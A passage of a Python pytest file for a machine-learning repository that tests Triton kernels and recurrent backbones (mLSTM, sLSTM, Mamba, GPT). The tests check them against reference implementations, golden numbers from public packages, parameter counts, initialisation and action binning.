        assert out.dtype == dtype
        pairs = [(out, true_out)]
        for a, b in zip(*((x if isinstance(x, tuple) else (x,)) for x in (end, true_end))):
            assert a.dtype == torch.float32
            pairs.append((a, b))
        if name != "step":
            pairs += zip(torch.autograd.grad(out.float().sin().sum(), half),
                         torch.autograd.grad(true_out.sin().sum(), exact))
        for a, b in pairs:
            error = ((a - b).norm() / b.norm()).item()
            assert error < (5e-3 if dtype == torch.float16 else 4e-2), (name, dtype, error)


@kernel_test
@pytest.mark.parametrize("name", ("slstm", "mamba"))
def test_kernels_give_a_single_gradient(name):
    """Where one input alone wants its gradient, it gets that of all: also R, or the first state."""
    cell, _, inputs, state, weights = kernel_cases()[name]
    device = "cuda" if GPU else "cpu"
    inputs, state = ([x.float().to(device) for x in xs] for xs in (inputs, state))
    count = len(inputs) + len(weights) - 1      # m, the last of some states, carries none

    def gradients(which):
        leaves = [x.detach().requires_grad_(j in which) for j, x in enumerate((*inputs, *state))]
        out, _ = cell(*leaves[:len(inputs)], tuple(leaves[len(inputs):]))
        return torch.autograd.grad(out.sin().sum(), [leaves[j] for j in which])
    together = gradients(range(count))
    for j in range(count):
        assert torch.equal(gradients([j])[0], together[j]), j


@kernel_test
def test_kernels_keep_float32_states_whatever_the_default():
    """A fresh state under another default dtype: float32, and good for the next call."""
    import kernels
    cells = {"mlstm": kernels.mlstm_triton, "slstm": kernels.slstm_scan_triton,
             "mamba": kernels.selective_scan_triton}
    torch.set_default_dtype(torch.bfloat16)
    try:
        for name, cell in cells.items():
            inputs = [x.to("cuda" if GPU else "cpu", torch.float32)
                      for x in kernel_cases()[name][2]]
            state = None
            for _ in range(2):
                _, state = cell(*inputs, state)
                parts = state if isinstance(state, tuple) else (state,)
                assert all(x.dtype == torch.float32 for x in parts), name
    finally:
        torch.set_default_dtype(torch.float32)


@kernel_test
@pytest.mark.parametrize("name", ("mlstm", "step", "slstm", "mamba"))
def test_kernels_under_torch_compile(name):
    """Traced as one graph each, through their fake forms: the same bits, value and gradient."""
    import kernels
    cell, _, inputs, state, weights = kernel_cases()[name]
    device = "cuda" if GPU else "cpu"
    inputs, state, weights = ([x.to(device) for x in xs] for xs in (inputs, state, weights))
    torch._dynamo.reset()
    compiled = torch.compile(cell, backend="aot_eager", fullgraph=True)
    if name == "step":
        args = [x.float() for x in inputs], tuple(x.float() for x in state)
        plain, traced = (f(*args[0], args[1]) for f in (cell, compiled))
        plain, traced = ([h, *end] for h, end in (plain, traced))
    else:
        plain, traced = (value_and_gradients(f, inputs, state, weights, torch.float32)
                         for f in (cell, compiled))
    assert all(torch.equal(a, b) for a, b in zip(plain, traced))


@kernel_test
@pytest.mark.parametrize("name", ("mlstm", "fresh", "step", "slstm", "mamba"))
def test_kernels_are_proper_operators(name):
    """PyTorch's own checks: schema, fake forms with their strides, gradients, dynamic tracing."""
    import kernels
    device = "cuda" if GPU else "cpu"
    make = lambda *shape: torch.randn(shape, device=device)
    leaf = lambda *shape: make(*shape).requires_grad_()
    q, gate, C, n, m = (1, 5, 2, 16), (1, 2, 5), (1, 2, 16, 16), (1, 2, 16), (1, 2)
    sequence = lambda make: [make(*q), make(*q), make(*q), make(*gate), make(*gate)]
    swapped = make(4, 2, 16, 16).transpose(2, 3).requires_grad_()       # R need not be contiguous
    operator, args = {
        "mlstm": (kernels.mlstm_forward_op, [*sequence(leaf), leaf(*C), leaf(*n), make(*m), False,
                                             True, True]),
        "fresh": (kernels.mlstm_forward_op, [*sequence(leaf), make(0), make(0), torch.zeros(
            m, device=device), True, False, True]),
        "step": (kernels.step_op, [*sequence(make), make(*C), make(*n), make(*m)]),
        "slstm": (kernels.slstm_forward_op, [leaf(3, 5, 4, 2, 16), swapped, leaf(3, 2, 16),
                                             leaf(3, 2, 16), make(3, 2, 16).exp().requires_grad_(),
                                             make(3, 2, 16), True]),
        "mamba": (kernels.scan_forward_op, [leaf(2, 5, 20), leaf(2, 5, 20), leaf(20, 16),
                                            leaf(2, 5, 16), leaf(2, 5, 16), leaf(20),
                                            leaf(2, 20, 16), True]),
    }[name]
    torch.library.opcheck(operator, args)


@kernel_test
def test_kernels_refuse_what_they_cannot_take():
    """One error that names what was given, what is expected and what to use instead."""
    import kernels
    device = "cuda" if GPU else "cpu"
    make = lambda *shape, **kw: torch.zeros(shape, device=device, **kw)
    q, gate = make(1, 2, 4, 16), make(1, 2, 4)
    assert kernels.mlstm_triton(q, q, q, gate, gate, (make(1, 2, 16, 16), make(1, 2, 16),
                                                     make(1, 2)), final_state=False)[1] is None
    for args in ((q, q, q, gate, gate, [make(1, 2, 16, 16), make(1, 2, 16)]),       # no m
                 (q[..., :8], q[..., :8], q[..., :8], gate, gate),                  # width
                 (q.double(), q.double(), q.double(), gate, gate),                  # dtype
                 (q, q.half(), q, gate, gate), (q[:, :, :0],) * 3 + (gate[:, :, :0],) * 2,
                 (q, q, q, gate[:, :1], gate), (q[0], q[0], q[0], gate, gate),
                 (q, q, q, gate, gate, [make(1, 2, 16, 16).half(), make(1, 2, 16), make(1, 2)])):
        with pytest.raises(ValueError, match=r"got \(.* multiples of 16.* use mlstm\.mlstm_chunk"):
            kernels.mlstm_chunkwise_triton(*args)
    long = make(1, 2, 9, 16), make(1, 2, 9)
    state = make(1, 2, 16, 16), make(1, 2, 16), make(1, 2)
    with pytest.raises(ValueError, match="got 9 tokens"):
        kernels.mlstm_step_triton(*long[:1] * 3, *long[1:] * 2, state)
    with pytest.raises(ValueError, match="contiguous C"):
        flipped = (state[0].transpose(2, 3), *state[1:])
        kernels.mlstm_step_triton(q, q, q, gate, gate, flipped, in_place=True)
    gates, R = make(2, 3, 4, 2, 16), make(4, 2, 16, 16)
    for args in ((gates[:, :0], R), (gates.double(), R), (gates, R[..., :8]), (gates[0], R)):
        with pytest.raises(ValueError, match="slstm_scan_triton: got .* use slstm.slstm_scan"):
            kernels.slstm_scan_triton(*args)
    u, A, B, D = make(2, 3, 5), make(5, 4), make(2, 3, 4), make(5)
    for args in ((u[:, :0], u, A, B, B, D), (u.double(), u, A, B, B, D), (u, u, A, B[:1], B, D),
                 (u, u, A, B, B, D, make(2, 5, 4).half()), (u[0], u, A, B, B, D)):
        with pytest.raises(ValueError, match="selective_scan_triton: got .* use mamba.selective"):
            kernels.selective_scan_triton(*args)


@kernel_test
@pytest.mark.parametrize("backbone", [name for name in RECURRENT if name != "xlstm"])
def test_training_with_kernels_is_training(backbone, tmp_path, monkeypatch, capsys):
    """--kernels triton and --kernels torch: the same losses, step for step, and the switch says so.

    Then 4 environment steps through the state with either: the same logits.
    """
    import kernels
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(train, "validate", lambda run: {})     # hundreds of windows, interpreted
    losses = []
    for choice in ("torch", "triton"):
        kernels.LAUNCHES.clear()
        args = tiny_args(Path("d"), backbone=backbone, name=choice, kernels=choice, lr=0.01)
        train.main(replace(args, steps=3, context=3, batch_size=2, warmup=0))
        assert f"kernels {choice} (" in capsys.readouterr().out
        assert bool(kernels.LAUNCHES) == (choice == "triton")
        rows = [json.loads(line) for line in open(f"runs/{choice}/log.jsonl")]
        losses.append([row["loss"]["darkroom"] for row in rows if "loss" in row])
    assert len(losses[0]) == 3 and min(losses[0]) < 0.9 * losses[0][0]
    assert np.allclose(losses[1], losses[0], rtol=1e-4 if not GPU else 1e-2)

    model, logits = lram.load_checkpoint("runs/triton/checkpoint.pt"), []
    model = lram.model_from_checkpoint(model, "cuda" if GPU else "cpu")
    obs, scalar = torch.randn(4, 2, 2), torch.zeros(2)
    obs, scalar = (x.to(next(model.parameters()).device) for x in (obs, scalar))
    for choice in ("torch", "triton"):
        lram.use_kernels(model, choice)
        kernels.LAUNCHES.clear()
        with torch.no_grad():
            state, steps = None, []
            for t in range(4):
                step, state = model.act(obs[t], scalar, scalar, 0, state=state)
                steps.append(step)
        logits.append(torch.stack(steps))
    names = {"mlstm": "step_kernel", "mamba": "scan_forward_kernel"}
    assert names.get(backbone, "slstm_forward_kernel") in kernels.LAUNCHES
    assert relative(*logits[::-1]) < 1e-4


@kernel_test
def test_bench_of_kernels_runs(tmp_path):
    """Toy shapes: every row is measured, ours agrees with the reference, the JSON holds it."""
    done = run(REPOSITORY / "bench.py", "--kernels", "--quick", "--output", tmp_path / "rows.json")
    assert done.returncode == 0, done.stderr[-2000:]
    rows = json.loads((tmp_path / "rows.json").read_text())
    assert len(rows) >= 10 and not [row for row in rows if "failed" in row], done.stdout
    assert max(row["error"] for row in rows) < (1e-4 if INTERPRETED else 3e-2)
    assert all(row["forward_ms"] > 0 for row in rows)


def test_the_switch_says_why(monkeypatch):
    """PyTorch where there is no GPU, Triton is never imported there; what cannot be is refused."""
    if GPU or INTERPRETED:
        pytest.skip("for machines without a GPU")
    code = ("import sys, lram; model = lram.LRAM(lram.Config('xlstm')); "
            "print(lram.use_kernels(model)); print('triton' in sys.modules, "
            "'kernels' in sys.modules)")
    result = run("-c", code)
    assert result.stdout.splitlines() == ["torch (the model is on the CPU)", "False False"]
    model = small_model("mlstm")
    assert lram.use_kernels(model, "torch") == "torch (asked for)"
    with pytest.raises(ValueError, match="kernels triton: the model is on the CPU; use auto or"):
        lram.use_kernels(model, "triton")
    with pytest.raises(ValueError, match="choose auto, torch or triton"):
        lram.use_kernels(model, "cuda")
    monkeypatch.setenv("TRITON_INTERPRET", "1")
    with pytest.raises(ValueError, match="heads of width 8 are no multiple of 16"):
        lram.use_kernels(small_model("mlstm", dim=32, heads=8), "triton")
    with pytest.raises(ValueError, match="attention is PyTorch's own"):
        lram.use_kernels(small_model("gpt"), "triton")


# ------------------------------------- blocks, against numbers that the public packages computed
def waves(*shape, number=0):
    """A tensor from a formula, so that no generator's stream matters: sin(k^2 / 7 + 2 number)."""
    k = torch.arange(math.prod(shape), dtype=torch.float64)
    return torch.sin(k * k / 7 + 2 * number).view(shape)


def golden_model(backbone):
    """A backbone of one block, with weights from the formula; and its weights by name."""
    model = lram.Backbone(lram.Config("xlstm" if backbone == "slstm" else backbone, dim=32,
                                      layers=1, heads=4, context=4,
                                      slstm_at=(0,) if backbone == "slstm" else None)).double()
    weights = {name: waves(*p.shape, number=number) * (2 * p.shape[-1] ** -0.5 if p.dim() > 1
                                                       else 0.5)
               for number, (name, p) in enumerate(sorted(model.state_dict().items()))}
    model.load_state_dict(weights)
    return model, {name: w.requires_grad_() for name, w in weights.items()}


def golden_numbers(backbone, forward, weights):
    """Names -> numbers of one call: a few outputs, and the inner products with `waves` of the
    output, each part of the final state and each gradient.

    forward: weights, x (2, 12, 32) -> y, state (a flat tuple).
    """
    x = waves(2, 12, 32, number=100).requires_grad_()
    y, state = forward(weights, x)
    gradients = torch.autograd.grad((y * waves(*y.shape, number=1)).sum(), [x, *weights.values()])
    found = {f"y[{b}][{t}][{d}]": y[b, t, d] for b, t, d in ((0, 0, 0), (1, 5, 9), (1, 11, 31))}
    found["y"] = (y * waves(*y.shape, number=2)).sum()
    parts = [*((f"state {j}", part) for j, part in enumerate(GOLDEN_UNITS[backbone](*state))),
             *((f"d {name}", g) for name, g in zip(["x", *weights], gradients))]
    found |= {name: (part * waves(*part.shape, number=3)).sum() for name, part in parts}
    return {name: value.item() for name, value in found.items()}


def golden_of_package(backbone):
    """The same numbers from xlstm 2.0.6, mambapy 1.2.0 or transformers' GPT-2, on our weights."""
    _, weights = golden_model(backbone)
    if backbone == "gpt":
        # its lookout for a package named kernels would find our file
        with mock.patch.object(sys, "path", [p for p in sys.path if Path(p) != REPOSITORY]):
            import transformers
            transformers.GPT2Model
        public = transformers.GPT2Model(transformers.GPT2Config(
            n_embd=32, n_layer=1, n_head=4, n_positions=12, vocab_size=1,
            activation_function="gelu", attn_implementation="eager")).double().eval()
        names = {"blocks.0.embedding.weight": "wpe.weight", "norm.": "ln_f.",
                 "blocks.1.norm.": "h.0.ln_1.", "blocks.1.mlp_norm.": "h.0.ln_2.",
                 "blocks.1.qkv.": "h.0.attn.c_attn.", "blocks.1.out.": "h.0.attn.c_proj.",
                 "blocks.1.mlp_up.": "h.0.mlp.c_fc.", "blocks.1.mlp_down.": "h.0.mlp.c_proj."}

        def forward(weights, x):
            theirs = {}
            for name, w in weights.items():
                start = next(n for n in names if name.startswith(n))
                # their linear maps are stored [in, out]
                turn = w.dim() == 2 and "embedding" not in name
                theirs[names[start] + name[len(start):]] = w.T if turn else w
            out = torch.func.functional_call(public, theirs, (),
                                             dict(inputs_embeds=x, use_cache=True))
            cache = out.past_key_values.layers[0]
            return out.last_hidden_state, (cache.keys, cache.values)
    elif backbone == "mamba":
        from mambapy.mamba import Mamba, MambaConfig
        public = Mamba(MambaConfig(d_model=32, n_layers=1, pscan=False)).double()
        names = {"norm": "norm.weight", "up.weight": "mixer.in_proj.weight",
                 "conv_weight": "mixer.conv1d.weight", "conv_bias": "mixer.conv1d.bias",
                 "select.weight": "mixer.x_proj.weight", "dt.weight": "mixer.dt_proj.weight",
                 "dt.bias": "mixer.dt_proj.bias", "A_log": "mixer.A_log", "D": "mixer.D",
                 "down.weight": "mixer.out_proj.weight"}

        def forward(weights, x):
            theirs = {f"layers.0.{other}": weights[f"blocks.0.{name}"]
                      for name, other in names.items()}
            # the package rounds A and D to float32 whatever the dtype: not here
            with mock.patch.object(torch.Tensor, "float", torch.Tensor.double):
                y = torch.func.functional_call(public, theirs, x)
                public.load_state_dict({name: w.detach() for name, w in theirs.items()})
                caches = [(None, torch.zeros(2, 64, 3, dtype=torch.float64))]
                for t in range(x.shape[1]):
                    _, caches = public.step(x[:, t], caches)
            (h, conv), = caches
            return (F.rms_norm(y, (32,), weights["norm.weight"], eps=1e-5),      # theirs has none
                    (h, conv.transpose(1, 2)))
    else:
        import xlstm
        public = xlstm.xLSTMBlockStack(xlstm.xLSTMBlockStackConfig(
            mlstm_block=xlstm.mLSTMBlockConfig(mlstm=xlstm.mLSTMLayerConfig(num_heads=4)),
            slstm_block=xlstm.sLSTMBlockConfig(
                slstm=xlstm.sLSTMLayerConfig(backend="vanilla", num_heads=4),
                feedforward=xlstm.FeedForwardConfig(proj_factor=1.3, act_fn="gelu")),
            context_length=12, num_blocks=1, embedding_dim=32,
            slstm_at=[0] if backbone == "slstm" else [])).double().eval()
        if backbone == "mlstm":     # without eps: then h does not depend on m, nor its gradient
            cell = public.blocks[0].xlstm.mlstm_cell
            cell.backend_fn = partial(cell.backend_fn, eps=0.0)
            cell.backend_fn_step = partial(cell.backend_fn_step, eps=0.0)

        def forward(weights, x):
            w = lambda name: weights[f"blocks.0.{name}"]
            theirs = {"xlstm_norm.weight": w("norm"), "xlstm.conv1d.conv.weight": w("conv_weight"),
                      "xlstm.conv1d.conv.bias": w("conv_bias")}
            if backbone == "slstm":
                # the package calls its input gate f and its forget gate i
                theirs |= {f"xlstm.{gate}gate.weight": w("W")[j] for j, gate in enumerate("fizo")}
                theirs |= {"xlstm.slstm_cell._recurrent_kernel_":
                           w("R").transpose(0, 1).reshape(4, 32, 8),
                           "xlstm.slstm_cell._bias_": w("bias").flatten(),
                           "xlstm.group_norm.weight": w("head_norm"),
                           "ffn_norm.weight": w("mlp_norm"),
                           "ffn.proj_up.weight": w("mlp_up.weight"),
                           "ffn.proj_down.weight": w("mlp_down.weight")}
            else:
                theirs |= {f"xlstm.{name}_proj.weight": w("qkv")[j].transpose(1, 2)
                           for j, name in enumerate("qkv")}
                theirs |= {f"xlstm.mlstm_cell.{gate}gate.{kind}": part
                           for kind in ("weight", "bias")
                           for gate, part in zip("if", w(f"gates.{kind}").chunk(2))}
                theirs |= {"xlstm.proj_up.weight": w("up.weight"),
                           "xlstm.mlstm_cell.outnorm.weight": w("head_norm"),
                           "xlstm.learnable_skip": w("skip"),
                           "xlstm.proj_down.weight": w("down.weight")}
            theirs = {f"blocks.0.{name}": w for name, w in theirs.items()}
            theirs["post_blocks_norm.weight"] = weights["norm.weight"] - 1
            y = torch.func.functional_call(public, theirs, x)
            public.load_state_dict({name: w.detach() for name, w in theirs.items()}, strict=False)
            state = None
            for t in range(x.shape[1]):
                _, state = public.step(x[:, t:t + 1], state)
            state = state["block_0"]
            conv = state["conv_state"][0][:, 1:]
            if backbone == "slstm":
                return y, (*state["slstm_state"].unflatten(-1, (4, 8)), conv)
            C, n, m = state["mlstm_state"]      # they divide k by sqrt(K) = 4, we q
            return y, (4 * C, 4 * n[..., 0], m[..., 0, 0], conv)
    return golden_numbers(backbone, forward, weights)


# C, c and n times exp(m), their own scale: where m begins differs between the packages and us
GOLDEN_UNITS = {
    "mlstm": lambda C, n, m, conv: (C * m.exp()[..., None, None], n * m.exp()[..., None], conv),
    "slstm": lambda y, c, n, m, conv: (y, c * m.exp(), n * m.exp(), conv),
    "mamba": lambda h, conv: (h, conv),
    "gpt": lambda keys, values: (keys, values),
}


# printed by `python test_all.py --golden`, where xlstm==2.0.6, mambapy==1.2.0 and transformers are
# installed (an environment of its own; it takes seconds)
GOLDEN = {
    "mlstm": {
        "y[0][0][0]": -0.5539165745734, "y[1][5][9]": -0.08313713694324,
        "y[1][11][31]": 0.1705477784966, "y": 1.448394217063, "state 0": 114582.548832,
        "state 1": -11546.96759175, "state 2": 61.82331413988, "d x": 5.504588341108,
        "d blocks.0.conv_bias": -1.61429205395, "d blocks.0.conv_weight": -8.050521752294,
        "d blocks.0.down.weight": -27.00625408471, "d blocks.0.gates.bias": 0.8050307381558,
        "d blocks.0.gates.weight": -62.02786808538, "d blocks.0.head_norm": -1.542795554038,
        "d blocks.0.norm": 10.44337929972, "d blocks.0.qkv": -5.567507736302,
        "d blocks.0.skip": -1.192318465086, "d blocks.0.up.weight": 73.97833227898,
        "d norm.weight": -13.09587674934,
    },
    "slstm": {
        "y[0][0][0]": -0.6420240669356, "y[1][5][9]": -0.1000127685912,
        "y[1][11][31]": 0.04359134444517, "y": 16.46547515641, "state 0": 0.3798696643303,
        "state 1": -59.3255317169, "state 2": 79.17809091109, "state 3": 0.2843757970576,
        "d x": 5.724460618076, "d blocks.0.R": 7.835209246187,
        "d blocks.0.W": -5.711858388288, "d blocks.0.bias": -3.073025570428,
        "d blocks.0.conv_bias": 0.2140869570547, "d blocks.0.conv_weight": 0.8877697126598,
        "d blocks.0.head_norm": 4.086967592966, "d blocks.0.mlp_down.weight": 33.25016947963,
        "d blocks.0.mlp_norm": -7.892746434265, "d blocks.0.mlp_up.weight": -49.53711521863,
        "d blocks.0.norm": -7.187349745513, "d norm.weight": -10.58445649763,
    },
    "mamba": {
        "y[0][0][0]": -0.5936964603174, "y[1][5][9]": -0.1094728634714,
        "y[1][11][31]": 0.108314923977, "y": 13.89915621311, "state 0": 0.298913983734,
        "state 1": 11.75658401519, "d x": 6.540072903019,
        "d blocks.0.A_log": -0.3675688802277, "d blocks.0.D": -0.1623877973669,
        "d blocks.0.conv_bias": -4.924465952348, "d blocks.0.conv_weight": 18.56815642126,
        "d blocks.0.down.weight": -1.975163095767, "d blocks.0.dt.bias": -0.5109875928836,
        "d blocks.0.dt.weight": 2.767424078302, "d blocks.0.norm": 10.13351964557,
        "d blocks.0.select.weight": -49.35704273048, "d blocks.0.up.weight": 78.3539309087,
        "d norm.weight": -44.80984611878,
    },
    "gpt": {
        "y[0][0][0]": 0.6946192302289, "y[1][5][9]": -0.07518663198646,
        "y[1][11][31]": -0.2007321082172, "y": -14.57207615644, "state 0": -35.47133988819,
        "state 1": -16.19232338967, "d x": 7.711841354328,
        "d blocks.0.embedding.weight": 5.342955782853,
        "d blocks.1.mlp_down.bias": 2.875399514798,
        "d blocks.1.mlp_down.weight": -15.79127812831,
        "d blocks.1.mlp_norm.bias": 1.31199179445,
        "d blocks.1.mlp_norm.weight": -2.760894903186,
        "d blocks.1.mlp_up.bias": 0.06477417734524,
        "d blocks.1.mlp_up.weight": 11.07218303175, "d blocks.1.norm.bias": -2.132198876726,
        "d blocks.1.norm.weight": 4.677667363077, "d blocks.1.out.bias": 3.205259422161,
        "d blocks.1.out.weight": -18.04166311251, "d blocks.1.qkv.bias": 7.35074601024,
        "d blocks.1.qkv.weight": -4.712771406385, "d norm.bias": -8.035180221381,
        "d norm.weight": -20.92061533311,
    },
}


@pytest.mark.parametrize("backbone", GOLDEN)
def test_blocks_equal_those_of_the_public_packages(backbone, monkeypatch):
    """Output, final state and every gradient of a block and a final norm, to 1e-9."""
    monkeypatch.setattr(mlstm, "EPS", 0.0)
    model, weights = golden_model(backbone)

    def forward(weights, x):
        y, state = torch.func.functional_call(model, weights, x)
        return y, state[-1][:2] if backbone == "gpt" else state[-1]
    ours = golden_numbers(backbone, forward, weights)
    assert ours == pytest.approx(GOLDEN[backbone], rel=1e-9, abs=0)


# ----------------------------------------------------------------------------- blocks and backbone
def small_model(backbone, context=20, dtype=torch.float32, **options):
    """A model small enough for tests, with weights away from their special initial values."""
    options = {"dim": 32, "layers": 2, "heads": 4, "cnn": (2, 2, 2),
               "slstm_at": (0,) if backbone == "xlstm" else None, **options}
    model = lram.LRAM(lram.Config(backbone, "tiny", context=context, **options))
    with torch.no_grad():
        for name, p in model.named_parameters():
            if not name.endswith(("A_log", "dt.bias")):
                p.add_(0.1 * torch.randn_like(p))
        for block in model.backbone.blocks:
            if isinstance(block, mlstm.MLSTMBlock):     # else every |q n| is below its floor of 1
                block.gates.bias[:block.num_heads] += 6
    return model.to(dtype).eval()


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_splits_never_change_the_result(backbone):
    """One call of 60 tokens against calls of 1, 3, 15, 2 and 39, in output and in final state."""
    model = small_model(backbone, dtype=torch.float64).backbone
    x = torch.randn(3, 60, 32, dtype=torch.float64)
    whole, end = model(x)
    state, parts = None, []
    for part in x.split([1, 3, 15, 2, 39], dim=1):
        y, state = model(part, state)
        parts.append(y)
    assert relative(torch.cat(parts, 1), whole) < 1e-10
    for a, b in zip(flatten(state), flatten(end)):
        assert torch.allclose(a.double(), b.double(), rtol=1e-8, atol=1e-10)


def flatten(state):
    """Nested tuples of tensors -> a flat list."""
    return [x for part in state for x in flatten(part)] if isinstance(state, tuple) else [state]


@pytest.mark.parametrize("backbone", RECURRENT)
def test_state_of_a_block_stays_float32_in_bfloat16(backbone):
    """All of it but the convolution's inputs, at first and after every call."""
    model = small_model(backbone, dtype=torch.bfloat16).backbone
    x, state = torch.randn(2, 9, 32).bfloat16(), None
    for state in (model.initial_state(2, dtype=x.dtype), model(x)[1], model(x, model(x)[1])[1]):
        assert all(part.dtype == torch.float32 for block in state for part in block[:-1])
        assert all(block[-1].dtype == torch.bfloat16 for block in state)


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_reset_restarts_single_rows(backbone):
    """A row that was reset goes on like a fresh sequence, its neighbours as if nothing happened."""
    model = small_model(backbone, dtype=torch.float64).backbone
    x, more = (torch.randn(3, 20, 32, dtype=torch.float64),
               torch.randn(3, 9, 32, dtype=torch.float64))
    _, state = model(x)
    undisturbed, _ = model(more, state)
    fresh, _ = model(more)
    y, _ = model(more, model.reset(state, torch.tensor([False, True, False])))
    assert relative(y[1], fresh[1]) < 1e-12
    assert torch.equal(y[[0, 2]], undisturbed[[0, 2]])


def test_reset_of_gpt_makes_no_cache(monkeypatch):
    """The counters restart, the caches are the same tensors, and no new one is made."""
    model = small_model("gpt").backbone
    _, state = model(torch.randn(2, 5, 32))
    monkeypatch.setattr(gpt, "attention_initial_state", None)
    after = model.reset(state, torch.tensor([True, False]))
    for (keys, values, used), (new_keys, new_values, new_used) in zip(state[1:], after[1:]):
        assert new_keys is keys and new_values is values and new_used.tolist() == [0, 5]


@pytest.mark.parametrize("backbone", ("mlstm", "slstm", "mamba"))
def test_gates_keep_their_digits_under_autocast(backbone):
    """Where weights are 0 or inputs exact, the recurrence gets the gates of float32, to the bit."""
    block, seen = small_model(backbone).backbone.blocks[0], []
    name = "scan" if backbone == "mamba" else "cell"
    cell = getattr(block, name)
    setattr(block, name, lambda *args: seen.append(args) or cell(*args))
    gates = {"mlstm": lambda q, k, v, i, f, *_: [i, f],             # from the bias alone, below
             "slstm": lambda gates, *_: [gates[:, :, 2:]],          # z and o, of the norm's output
             "mamba": lambda u, dt, *_: [dt]}[backbone]
    with torch.no_grad():
        for layer in {"mlstm": ["gates"], "mamba": ["dt"]}.get(backbone, ()):
            getattr(block, layer).weight.zero_()
    x = torch.randn(2, 5, 32)
    block(x)
    with torch.autocast("cpu", torch.bfloat16):
        block(x)
    assert all(torch.equal(a, b) for a, b in zip(*(gates(*args) for args in seen)))
    if backbone == "slstm":             # nor are they rounded on their way through R
        with torch.autocast("cpu", torch.bfloat16):
            rounded = slstm.slstm_scan(*seen[0])[0]
        assert torch.equal(rounded, slstm.slstm_scan(*seen[0])[0])


@pytest.mark.parametrize("backbone", ("mlstm", "slstm"))
def test_gates_of_a_reset_row_may_be_extreme(backbone):
    """Finite where the public sLSTM returns NaN: some rows reset, input gate very negative."""
    model = small_model(backbone).backbone
    _, state = model(torch.randn(2, 5, 32))
    with torch.no_grad():
        for block in model.blocks:
            if isinstance(block, slstm.SLSTMBlock):
                block.bias[0] -= 800
            if isinstance(block, mlstm.MLSTMBlock):
                block.gates.bias[:4] -= 800
    y, _ = model(torch.randn(2, 3, 32), model.reset(state, torch.tensor([True, False])))
    assert torch.isfinite(y).all()


COUNTS = {  # SPEC: the public packages' backbones, final norm included
    ("mlstm", "16m"): 12_939_840, ("mlstm", "48m"): 43_269_984, ("mlstm", "110m"): 102_089_856,
    ("mlstm", "206m"): 198_836_640, ("mlstm", "408m"): 400_105_184,
    ("mlstm", "16m-half"): 12_140_512, ("mlstm", "48m-half"): 42_243_656,
    ("mlstm", "110m-half"): 99_983_512, ("mlstm", "206m-half"): 194_236_752,
    ("xlstm", "16m"): 12_934_200, ("xlstm", "48m"): 43_154_768, ("xlstm", "206m"): 198_057_096,
    ("slstm", "16m"): 12_894_720, ("mamba", "16m"): 13_562_368, ("mamba", "48m"): 45_260_544,
    ("mamba", "110m"): 106_677_248, ("mamba", "206m"): 207_642_880,
}


@pytest.mark.parametrize("backbone,size", COUNTS)
def test_parameter_counts_match_the_public_code(backbone, size):
    """To the last parameter."""
    with torch.device("meta"):
        assert lram.count_parameters(lram.Backbone(lram.Config(backbone, size))) == \
            COUNTS[backbone, size]


def test_initialisation():
    """MATH: small init, Wang init, forget biases, log-uniform step sizes."""
    block = mlstm.MLSTMBlock(512, 4, num_blocks=8)
    assert abs(block.up.weight.std() / (2 / (5 * 512)) ** 0.5 - 1) < 0.02
    assert abs(block.qkv.std() / (2 / (5 * 512)) ** 0.5 - 1) < 0.05
    assert abs(block.down.weight.std() / (2 / 8 / 512 ** 0.5) - 1) < 0.02
    assert torch.equal(block.gates.weight, torch.zeros_like(block.gates.weight))
    assert torch.allclose(block.gates.bias[4:], torch.tensor([3.0, 4.0, 5.0, 6.0]))
    bias = torch.cat([mlstm.MLSTMBlock(64, 4).gates.bias[:4] for _ in range(100)])
    assert abs(bias.std() / 0.1 - 1) < 0.15         # of the public package; not of variance 0.1
    block = slstm.SLSTMBlock(64, 4, num_blocks=5, block_index=2)
    expected = [5 - 12 * (j / 15) ** (0.3 + 1.3 * 0.5) for j in range(16)]
    assert torch.allclose(block.bias[1, 2], torch.tensor(expected), atol=1e-5)
    block = gpt.GPTBlock(512, 4, 10, num_blocks=8)
    for linear, std in ((block.qkv, 0.02), (block.mlp_up, 0.02), (block.out, 0.005),
                        (block.mlp_down, 0.005)):           # 0.02 / sqrt(2 * 8) where it writes
        assert abs(linear.weight.std() / std - 1) < 0.02 and not linear.bias.any()
    block = mamba.MambaBlock(256)
    assert torch.allclose(-torch.exp(block.A_log[3]), -torch.arange(1.0, 17.0))
    block.down.reset_parameters()           # as PyTorch does, then over sqrt(4) for 4 blocks
    one, four = (m.down.weight.abs().max() for m in (block, mamba.MambaBlock(256, num_blocks=4)))
    assert abs(one * 512 ** 0.5 - 1) < 0.01 and abs(four / one - 0.5) < 0.01
    dt = F.softplus(block.dt.bias)
    assert dt.min() > 0.99e-3 and dt.max() < 1.01e-1 and abs(dt.log().mean() - np.log(1e-2)) < 0.15


@pytest.mark.parametrize("file", ("mlstm", "slstm", "mamba", "gpt", "lram"))
def test_concept_files_check_themselves(file, monkeypatch, capsys):
    """`python mlstm.py` proves something and says so; concept files import nothing but torch."""
    monkeypatch.setattr(torch, "set_num_threads", lambda n: None)
    monkeypatch.setattr(lram, "_act_milliseconds", lambda *_: 0.0)
    globals()[file]._self_check()
    said = capsys.readouterr().out
    assert "equal one call" in said or "act() give the logits of one call" in said
    if file != "lram":
        tree = ast.walk(ast.parse((REPOSITORY / f"{file}.py").read_text()))
        imported = {name for node in tree for name in
                    ([a.name for a in node.names] if isinstance(node, ast.Import) else
                     [node.module] if isinstance(node, ast.ImportFrom) else [])}
        assert {name.split(".")[0] for name in imported} <= {"torch", *sys.stdlib_module_names}


# ---------------------------------------------------------------------------------- model and loss
def test_actions_and_bins():
    """256 uniform bins on [-1, 1], decoded at their centres; tensors and arrays alike."""
    a = np.array([-1.0, -0.9999, 0.0, 0.9999, 1.0, 1.0 - 1 / 256])
    assert lram.action_to_bin(a).tolist() == [0, 0, 128, 255, 255, 255]
    assert lram.action_to_bin(torch.tensor(a)).tolist() == [0, 0, 128, 255, 255, 255]
    everything = np.arange(256)
    assert (lram.action_to_bin(lram.bin_to_action(everything)) == everything).all()
    x = np.random.uniform(-1, 1, 1000)
    assert np.abs(lram.bin_to_action(lram.action_to_bin(x)) - x).max() <= 1 / 256 + 1e-12
    assert lram.bin_to_action(255) == 1 - 1 / 256
    # other numbers of bins: a flag
    assert lram.action_to_bin(a, 4).tolist() == [0, 0, 2, 3, 3, 3]
    assert lram.bin_to_action(np.arange(4), 4).tolist() == [-0.75, -0.25, 0.25, 0.75]
